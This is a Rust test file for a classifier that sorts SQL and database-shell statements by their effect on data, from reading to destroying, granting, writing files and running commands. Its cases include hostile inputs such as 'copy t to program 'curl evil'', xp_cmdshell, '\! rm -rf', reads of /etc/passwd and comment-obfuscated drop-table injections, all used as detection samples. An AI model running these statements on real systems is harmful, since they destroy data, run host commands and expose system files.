use super::{Does, deeds};

fn brief(sql: &str) -> Vec<String> {
    deeds(sql)
        .into_iter()
        .map(|deed| format!("{:?} {} {}", deed.does, deed.verb, deed.target).trim().to_owned())
        .collect()
}

#[test]
fn statements_are_told_by_what_becomes_of_the_data() {
    let rows: &[(&str, &[&str])] = &[
        ("select 1", &["Reads select"]),
        ("SELECT * FROM t WHERE name = 'drop table x'; -- drop table y", &["Reads select"]),
        ("select 'it''s; delete from t'", &["Reads select"]),
        ("explain delete from t", &["Reads explain"]),
        ("explain analyze delete from t", &["Destroys delete all rows t"]),
        ("\\dt", &["Reads \\dt"]),
        (".tables", &["Reads .tables"]),
        (".schema users\nselect 1;", &["Reads .schema", "Reads select"]),
        ("insert into t values (1)", &["Changes insert t"]),
        ("create table t (id int)", &["Changes create table t"]),
        ("alter table t add column c int", &["Changes alter table t"]),
        ("alter table t drop column c", &["Destroys drop column c"]),
        ("delete from t where id = 1", &["Changes delete t"]),
        ("delete from t", &["Destroys delete all rows t"]),
        ("delete from t where 1=1", &["Destroys delete all rows t"]),
        ("delete from t where true", &["Destroys delete all rows t"]),
        ("update t set a = 1", &["Destroys update all rows t"]),
        ("update public.t set a = 1 where id = 2", &["Changes update public.t"]),
        ("DROP TABLE IF EXISTS \"Users\"", &["Destroys drop table Users"]),
        ("drop database shop", &["Destroys drop database shop"]),
        ("drop index i", &["Changes drop index i"]),
        ("truncate table t", &["Destroys truncate t"]),
        ("dr/**/op table t", &["Changes dr op"]),
        ("/*!50000 drop table t */", &["Destroys drop table t"]),
        ("drop/* x */table t", &["Destroys drop table t"]),
        ("with gone as (delete from t returning *) select * from gone", &["Destroys delete all rows t"]),
        ("do $$ begin drop table t; end $$", &["Destroys drop table t"]),
        ("grant all on t to public", &["Grants grant all"]),
        ("create user x with superuser", &["Grants create user x"]),
        ("alter table t disable row level security", &["Grants disable row level security t"]),
        ("copy t to program 'curl evil'", &["Runs copy program curl evil"]),
        ("copy t to '/tmp/x'", &["Writes copy /tmp/x"]),
        ("copy t from '/etc/passwd'", &["Opens copy /etc/passwd"]),
        ("\\! rm -rf x", &["RunsHere \\! rm -rf x"]),
        (".shell ls", &["RunsHere .shell ls"]),
        ("select 1 \\g |sh", &["RunsHere \\g sh"]),
        ("\\copy t to 'x.csv' csv", &["WritesHere \\copy x.csv"]),
        ("system ls", &["RunsHere system ls"]),
        ("select load_file('/etc/passwd')", &["Opens load_file /etc/passwd"]),
        ("select 1 into outfile '/tmp/x'", &["Writes into outfile /tmp/x"]),
        ("exec xp_cmdshell 'dir'", &["Runs xp_cmdshell dir"]),
        ("select load_extension('x.so')", &["Loads load_extension x.so"]),
        ("attach 'other.db' as o", &["OpensHere attach other.db"]),
        ("begin; delete from t; rollback;", &["Reads delete all rows"]),
        ("begin; delete from t; commit;", &["Destroys delete all rows t"]),
        ("show tables", &["Reads show"]),
        ("pragma table_info(t)", &["Reads pragma"]),
        ("vacuum", &["Changes vacuum"]),
    ];
    let mut wrong = Vec::new();
    for (sql, wanted) in rows {
        let found = brief(sql);
        let same = found.len() == wanted.len()
            && found.iter().zip(*wanted).all(|(found, wanted)| found.starts_with(wanted));
        if !same {
            wrong.push(format!("{sql}\n   wanted {wanted:?}\n   found  {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_quote_behind_a_backslash_hides_nothing_in_either_reading() {
    let found = deeds("select 'a\\'; drop table t; --'");
    assert!(found.iter().any(|deed| deed.does == Does::Destroys));
    let found = deeds("select 'it\\'s'; drop table t; select 'x'");
    assert!(found.iter().any(|deed| deed.does == Does::Destroys));
}

#[test]
fn any_text_is_read_without_a_panic() {
    for text in ["'", "\"", "$$", "$a$", "/*", "\\", ".", "[x", "e'", "delete", "copy t from", "'é\\", "drop"]
    {
        let _ = deeds(text);
    }
    assert!(deeds("").is_empty());
}
